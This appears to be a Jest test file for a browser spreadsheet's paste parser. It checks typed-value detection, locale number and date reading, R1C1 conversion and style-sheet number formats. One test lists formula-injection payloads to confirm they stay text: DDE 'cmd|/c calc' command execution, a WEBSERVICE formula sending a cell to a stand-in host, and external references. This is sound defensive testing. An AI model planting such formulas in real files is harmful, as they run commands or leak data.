/** Pasted text is read as if typed. Also: formulas in R1C1 notation, and Excel's number formats in style sheets. */
import { excelFormat, readDeclarations, readRules } from "../../../src/browser-workbook/paste/style-text";
import { fromR1C1 } from "../../../src/formula/references";
import { readTypedText } from "../../../src/browser-workbook/paste/typed-text";
import { englishFormat, systemFormat } from "../../../src/browser-workbook/paste/locale-format";

test.each([
  ["1234", 1234, undefined],
  ["-3.5", -3.5, undefined],
  ["1,234.50", 1234.5, "#,##0.00"],
  ["1,234", 1234, "#,##0"],
  ["5%", 0.05, "0%"],
  ["12.5 %", 0.125, "0.0%"],
  ["$1,234.50", 1234.5, '"$"#,##0.00'],
  ["(3)", -3, undefined],
  ["1E+3", 1000, undefined],
  ["2026-11-20", 46346, "yyyy-mm-dd"],
  ["2026-11-20 12:00", 46346.5, "yyyy-mm-dd hh:mm"],
  ["11/20/2026", 46346, "m/d/yyyy"],
  ["true", true, undefined],
])("%s is taken for a value", (text, value, numberFormat) => {
  expect(readTypedText(text)).toEqual({ value, ...(numberFormat !== undefined && { numberFormat }) });
});

test.each([
  "00012345678905",
  "1234567890123456",
  "1,2",
  "1-2",
  "20/13/2026",
  "2026-02-30",
  "12a",
  "=",
  "-",
  "1.2.3",
  "#N/A",
])("%s stays text", (text) => {
  expect(readTypedText(text)).toEqual({ value: text });
});

test.each([
  ["00012345678905", "@", "00012345678905"],
  ["00012345678905", "00000000000000", 12345678905],
  ["20-Nov-26", "d-mmm-yy", 46346],
  ["20/11/2026 6:00 PM", "dd/mm/yyyy h:mm AM/PM", 46346.75],
  ["18:00", "h:mm", 0.75],
  ["Friday, November 20, 2026", "dddd, mmmm d, yyyy", 46346],
  [" - ", '_("$"* #,##0.00_)', 0],
])("%s in the format %s", (text, format, value) => {
  expect(readTypedText(text, englishFormat, format)).toEqual({ value, numberFormat: format });
});

test("orders day and month as the system does if the format doesn't say", () => {
  const dayFirst = { ...englishFormat, dayFirst: true };
  expect(readTypedText("05/11/2026", dayFirst, "m/d/yyyy").value).toBe(46331);
  expect(readTypedText("05/11/2026", englishFormat, "m/d/yyyy").value).toBe(46153);
  expect(readTypedText("05/11/2026", dayFirst).value).toBe(46331);
});

test.each([
  '=IMAGE("http://x/a.png")',
  ' =WEBSERVICE("http://x/"&A1)',
  "=SUM(cmd|'/c calc'!A0)",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(cmd|'/c calc'!A0)",
  '=INDIRECT("[x.xlsx]S!A1")',
  "=CONTOSO.GET(A1)",
  "=[1]Plan!A1",
])("%s reaches outside the workbook and stays text", (text) => {
  expect(readTypedText(text)).toEqual({ value: text });
});

test("marks #### and 1.23E+13 as cut off", () => {
  expect(readTypedText("########", englishFormat, "m/d/yyyy").isCutOff).toBe(true);
  expect(readTypedText("1.23457E+13", englishFormat, null).isCutOff).toBe(true);
  expect(readTypedText("1.23457E+13", englishFormat, "0.00E+00").isCutOff).toBeUndefined();
});

test.each([
  ["=R[0]C[-1]*2", "=B3*2"],
  ["=SUM(R[-2]C[0]:R[-1]C[0])", "=SUM(C1:C2)"],
  ["=R1C1+RC[1]+R5C", "=$A$1+D3+C$5"],
  ["=SUM(C[-1]:C[-1],R2:R[1])", "=SUM(B:B,$2:4)"],
  [
    '=IF(RC[-1]="R[1]C[1]",\'R1C1\'!R[0]C[0],INV.QTY(R[0]C[-2],"x"))',
    '=IF(B3="R[1]C[1]",\'R1C1\'!C3,INV.QTY(A3,"x"))',
  ],
  ["=ROUND(R[0]C[-1],2)+RC1_rate", "=ROUND(B3,2)+RC1_rate"],
  ["=R[-3]C[0]", "=#REF!"],
])("%s in C3 is %s", (formula, expected) => {
  expect(fromR1C1(formula, { row: 2, col: 2 })).toBe(expected);
});

test("decodes Excel's number formats from style sheets", () => {
  const rules = readRules(
    '<!--td\n\t{mso-number-format:General;}\n.xl65\n\t{mso-number-format:"\\@";}\n.a, .b {mso-number-format:"\\#\\,\\#\\#0\\.00_\\)\\;\\[Red\\]\\\\\\(0\\.00\\\\\\)"; color:red}-->',
  );
  expect(excelFormat(rules.get("td")?.get("mso-number-format") ?? "")).toBeNull();
  expect(excelFormat(rules.get(".xl65")?.get("mso-number-format") ?? "")).toBe("@");
  expect(excelFormat(rules.get(".b")?.get("mso-number-format") ?? "")).toBe("#,##0.00_);[Red]\\(0.00\\)");
  expect(rules.get(".a")?.get("color")).toBe("red");
  expect(excelFormat('"Short Date"')).toBe("m/d/yyyy");
  expect(excelFormat('"\\0022kg\\0022 0"')).toBe('"kg" 0');
  expect(readDeclarations("a:1;b:'x;y';c").get("b")).toBe("'x;y'");
});

test.each([
  ["1.234,50", 1234.5],
  ["1,234", 1.234],
  ["1.234", 1234],
  ["0,5", 0.5],
  ["12,5 %", 0.125],
  ["20.11.2026", 46346],
  // These are numbers in English, and not numbers in German.
  ["1,234.50", 1234.5],
  ["1.5", 1.5],
  ["00012345678905", "00012345678905"],
])("%s is read as a German system reads it", (text, value) => {
  expect(readTypedText(text, systemFormat("de-DE")).value).toBe(value);
});

test("reads only English numbers on an English system", () => {
  expect(systemFormat("en-US")).toEqual({ ...englishFormat, otherwise: englishFormat });
  expect(readTypedText("0,5", systemFormat("en-US")).value).toBe("0,5");
});
